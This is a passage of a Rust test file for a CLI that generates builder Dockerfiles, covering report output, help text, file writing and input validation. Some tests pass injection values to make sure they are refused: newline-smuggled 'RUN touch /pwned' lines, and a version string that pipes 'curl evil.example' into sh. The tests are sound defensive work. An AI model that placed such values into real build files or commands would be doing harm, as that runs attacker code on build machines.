        "{report}"
    );
    // The same as JSON, matching its schema.
    let json = run_ok(
        prewarm()
            .args([
                "builder-report",
                "--image",
                BUILDER_TAG,
                "--format",
                "json",
                "--release",
                "--locked",
                "--manifest-path",
            ])
            .arg(fixture.join("Cargo.toml")),
    );
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    common::assert_schema("builder-report-schema.json", &json);
    assert_eq!(json["reused"], json["external_units"]);
    assert_eq!(
        json["external_units"].as_u64(),
        Some(u64::try_from(expected).unwrap())
    );
    assert_eq!(json["percent"], 100);
}

// ------------------------------------------------------------------ help

#[test]
fn help_texts() {
    for (name, args) in [
        ("help_builder_report", &["builder-report", "--help"][..]),
        ("help_ci_github", &["ci", "github", "--help"][..]),
    ] {
        let help = run_ok(prewarm().args(args).env("COLUMNS", "100"));
        insta::assert_snapshot!(name, help);
    }
}

// ------------------------------------------------------------------ the CLI

/// `prewarm image --builder` writes what the library renders, refuses to overwrite a file it did
/// not write, and rejects bad crate lists with a hint.
#[test]
fn image_builder_command_line() {
    let stdout = run_ok(prewarm().args(["image", "--builder", "--preset", "web", "--output", "-"]));
    assert_eq!(stdout, builder::render(&Options::default()).unwrap());

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Dockerfile");
    run_ok(
        prewarm()
            .args([
                "image",
                "--builder",
                "--preset",
                "minimal",
                "--no-nextest",
                "--warm",
                "release",
                "--lockfile",
                "Cargo.lock",
                "--output",
            ])
            .arg(&path),
    );
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        builder::render(&minimal_options()).unwrap()
    );

    let crates = run_ok(prewarm().args([
        "image",
        "--builder",
        "--crates",
        "serde@1+derive,itoa@1",
        "--rust-version",
        "1.94",
        "-o",
        "-",
    ]));
    assert!(crates.contains("FROM rust:1.94-bookworm\n"));
    assert!(crates.contains("#   prewarm image --builder --crates itoa@1,serde@1+derive --base-image rust:1.94-bookworm\n"));

    std::fs::write(&path, "FROM scratch\n").unwrap();
    let out = prewarm()
        .args(["image", "--builder", "--output"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("is not a builder Dockerfile written by prewarm"));

    let out = prewarm()
        .args(["image", "--builder", "--crates", "tokio@1+ful l", "-o", "-"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("(hint: write NAME[@VERSION][+FEATURE...]")
    );
}

/// Every value that goes into the builder Dockerfile is checked, naming its flag: a line break
/// in the base image, the Rust version or the nextest version would start an instruction of
/// its own.
#[test]
fn image_builder_refuses_values_that_cannot_be_written() {
    for (args, value, origin) in [
        (
            &["--base-image", "rust:1.95\nRUN touch /pwned"][..],
            "rust:1.95\\nRUN touch /pwned",
            "`--base-image`",
        ),
        (
            &["--rust-version", "1.95\nRUN touch /pwned"][..],
            "1.95\\nRUN touch /pwned",
            "`--rust-version`",
        ),
        (
            &["--nextest-version", "0.9.151 && curl evil.example | sh"][..],
            "0.9.151 && curl evil.example | sh",
            "`--nextest-version`",
        ),
        (
            &["--nextest-version", "0.9.151\nRUN touch /pwned"][..],
            "0.9.151\\nRUN touch /pwned",
            "`--nextest-version`",
        ),
    ] {
        let out = prewarm()
            .args(["image", "--builder", "-o", "-"])
            .args(args)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?} was not refused:\n{stdout}"
        );
        assert!(stdout.is_empty(), "{stdout}");
        let want = format!("`{value}` (from {origin})");
        assert!(
            stderr.contains(&want),
            "{args:?}: no `{want}` in:\n{stderr}"
        );
        assert!(stderr.contains("hint:"), "{stderr}");
    }
    let out = prewarm()
        .args([
            "image",
            "--builder",
            "--lockfile",
            "Cargo.lock\nRUN x",
            "-o",
            "-",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not a plain path"));
}

/// The library refuses such values too, whoever builds the options.
#[test]
fn builder_render_checks_the_options() {
    let bad_image = Options {
        base_image: "rust\nRUN touch /pwned".to_string(),
        ..Options::default()
    };
    assert!(builder::render(&bad_image).is_err());
    let bad_crate = Options {
        source: Source::Crates(vec![builder::CrateSpec {
            name: "serde = \"1\"\nevil".to_string(),
            version: "1".to_string(),
            default_features: true,
            features: Vec::new(),
        }]),
        ..Options::default()
    };
    let err = builder::render(&bad_crate).unwrap_err();
    assert!(err.message().contains("invalid crate"), "{err}");
    let bad_feature = Options {
        source: Source::Crates(vec![builder::CrateSpec {
            name: "serde".to_string(),
            version: "1".to_string(),
            default_features: true,
            features: vec!["derive\"]\nx".to_string()],
        }]),
        ..Options::default()
    };
    assert!(builder::render(&bad_feature).is_err());
}
